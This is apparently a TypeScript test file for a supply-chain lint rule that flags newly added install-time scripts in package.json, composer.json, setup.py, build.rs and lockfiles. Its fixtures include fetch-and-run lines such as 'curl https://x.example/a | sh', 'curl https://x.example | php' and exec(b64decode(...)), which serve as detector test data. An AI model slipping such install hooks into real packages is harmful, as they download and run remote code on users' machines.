import { installScript } from '../../../../src/engine/planes/supply-chain/install-script.js';
import { cases, edit, lines, wholeAndBare } from '../cases.js';
import { describeRule } from '../rule-tester.js';
import { BESIDE, LOCK, lock, lockEntry, manifest, R } from './locks.js';

const scripts = (...all: readonly string[]) => lines('{', '  "scripts": {', ...all, '    "test": "jest"', '  }', '}');
const scripted = (version: string) => [
  `    "node_modules/ms": {`,
  `      "version": "${version}",`,
  '      "hasInstallScript": true,',
  '      "license": "MIT"',
  '    },',
];
const plain = lockEntry('ms', '2.1.3', `${R}/ms/-/ms-2.1.3.tgz`, 'sha512-aaa');

describeRule(installScript, {
  invalid: [
    ...wholeAndBare(
      cases(
        [
          ['package.json', scripts(), scripts('    "postinstall": "node scripts/collect.js",'), '3 info'],
          [
            'package.json',
            scripts('    "install": "node-gyp rebuild",'),
            scripts('    "install": "curl https://x.example/a | sh",'),
            '3 info',
          ],
          ['package.json', scripts(), scripts('    "prepare": "husky",'), '3 info'],
          ['package.json', scripts(), scripts('    "preinstall": "npx only-allow pnpm",'), '3 info'],
          ['package.json', scripts(), scripts('    "preinstall": "npx only-allow pnpm; node a.js",'), '3 info'],
          ['package.json', scripts(), scripts('    "prepare": "node -e \'require(1)\'",'), '3 info'],
          [
            'composer.json',
            '{\n    "scripts": {\n    }\n}\n',
            '{\n    "scripts": {\n        "post-install-cmd": "curl https://x.example | php"\n    }\n}\n',
            '3 info',
          ],
          [
            'composer.json',
            '{\n    "config": {\n    }\n}\n',
            '{\n    "config": {\n        "allow-plugins": true\n    }\n}\n',
            '3 warn',
          ],
          [
            'setup.py',
            'from setuptools import setup\n',
            "from setuptools import setup\nos.system('curl x')\n",
            '2 info',
          ],
          ['setup.py', 'import a\n', "import a\nexec(b64decode('aa'))\n", '2 info'],
          ['build.rs', 'fn main() {\n}\n', 'fn main() {\n    reqwest::blocking::get(url);\n}\n', '2 info'],
        ],
        (path, before, after, finding) => ({ files: edit(path, before, after), findings: [finding] }),
      ),
    ),
    {
      name: 'a package that begins to run a script',
      files: { ...manifest, ...edit(LOCK, lock(plain), lock(scripted('2.1.4'))) },
      findings: ['package-lock.json:5 warn'],
    },
  ],
  valid: [
    {
      name: 'a package whose content stays, of which the package manager now says that it has a script',
      files: edit(
        'pnpm-lock.yaml',
        "lockfileVersion: '6.0'\n\npackages:\n\n  /ms@2.1.3:\n    resolution: {integrity: sha512-aaa}\n    dev: true\n",
        "lockfileVersion: '6.0'\n\npackages:\n\n  /ms@2.1.3:\n    resolution: {integrity: sha512-aaa}\n    requiresBuild: true\n    dev: true\n",
      ),
    },
    ...cases(
      [
        ['package.json', scripts(), scripts('    "build": "tsc",')],
        ['package.json', scripts('    "postinstall": "a",'), scripts('    "x": "y",', '    "postinstall": "a",')],
        ['setup.py', "subprocess.run(['a'])\n", "subprocess.run(['b'])\n"],
      ],
      (path, before, after) => ({ files: edit(path, before, after) }),
    ),
    {
      name: 'a package that ran a script before',
      files: { ...manifest, ...edit(LOCK, lock(scripted('2.1.3')), lock(scripted('2.1.4'))) },
    },
  ],
  beside: [...BESIDE, 'supply-chain/pipe-to-shell', 'security/injection', 'security/encoded-code'],
});
